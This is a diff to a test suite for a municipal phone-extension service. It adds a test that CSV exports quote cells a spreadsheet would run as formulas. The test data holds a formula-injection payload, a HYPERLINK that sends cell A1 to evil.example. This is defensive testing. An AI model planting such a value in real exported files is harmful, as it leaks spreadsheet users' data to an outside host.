@@ -1,4 +1,5 @@
 import { createHash } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { useRedis } from '../support/redis.js';
 import { PASSWORD, UMEA, VANNAS, adminApp, setupActor, snapshot } from './support.js';
@@ -26,13 +27,36 @@ describe('extensions CSV import and export', () => {
     const exported = await (await app.t.app.request(`/api/v1/extensions/export?municipality=${VANNAS}`, { headers: { authorization: `Bearer ${app.admin}` } })).text();
     const lines = exported.replace(/^\uFEFF/, '').trim().split('\n');
     expect(lines[0]).toBe('id,extension,displayName,directNumber,directoryEntryId,password');
-    expect(lines.slice(1).map((line) => line.split(',').slice(1).join(','))).toEqual(['2460123,Anna Berg,+4693514123,,', '2460124,Bo Ek,,,']);
+    // The direct number as text (a leading + would make it a formula, or a number without its +, in a spreadsheet).
+    expect(lines.slice(1).map((line) => line.split(',').slice(1).join(','))).toEqual(["2460123,Anna Berg,'+4693514123,,", '2460124,Bo Ek,,,']);
     expect(exported).not.toContain(PASSWORD);
 
     expect((await upload(`municipality=${VANNAS}&mode=replace`, exported)).body).toMatchObject({ created: 0, updated: 0, unchanged: 2, deleted: 0 });
     // By number, without ids: the existing extension is changed, not duplicated; the password is kept.
     expect((await upload(`municipality=${VANNAS}`, 'extension,displayName\n2460123,Anna Berg-Ek')).body).toMatchObject({ created: 0, updated: 1 });
     expect(await app.t.admin.extensions.sipCredentials('2460123')).toMatchObject({ ha1: md5(`2460123:regionvaxel:${PASSWORD}`) });
+  });
+
+  it('exports a cell a spreadsheet would run as a formula as text, and imports it back as it was written', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")', '+Anna', '-Bo', '@Ek', "'=already quoted", "''+twice"];
+    for (const [i, displayName] of names.entries()) {
+      const body = { extension: `246020${i}`, displayName, municipalityId: VANNAS, password: PASSWORD, ...(i === 0 ? { directNumber: '0935-141 23' } : {}) };
+      expect((await app.send('POST', '/api/v1/extensions', { body })).status).toBe(201);
+    }
+    // A file written by hand the way the export writes: the quote is taken away.
+    expect((await upload(`municipality=${VANNAS}`, `extension,displayName,password\n2460210,'=SUM(1),${PASSWORD}`)).body).toMatchObject({ created: 1 });
+    expect((await app.t.admin.extensions.get((await app.t.admin.extensions.idByClaim('extension:2460210'))!))?.doc.displayName).toBe('=SUM(1)');
+
+    const exported = await (await app.t.app.request(`/api/v1/extensions/export?municipality=${VANNAS}`, { headers: { authorization: `Bearer ${app.admin}` } })).text();
+    const rows = parse(exported, { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => row.displayName)).toEqual([...names.map((name) => `'${name}`), "'=SUM(1)"]);
+    expect(rows[0]!.directNumber).toBe("'+4693514123");
+    // Nothing a spreadsheet would evaluate: every cell starts with something else than = + - @ tab CR.
+    expect(rows.flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const before = await snapshot(ctx);
+    expect((await upload(`municipality=${VANNAS}&mode=replace`, exported)).body).toMatchObject({ created: 0, updated: 0, unchanged: names.length + 1, deleted: 0 });
+    expect(await snapshot(ctx)).toEqual(before);
   });
 
   it('changes nothing when a row is bad; a dry run lists every bad row by line and column, the conflicting ones too', async () => {
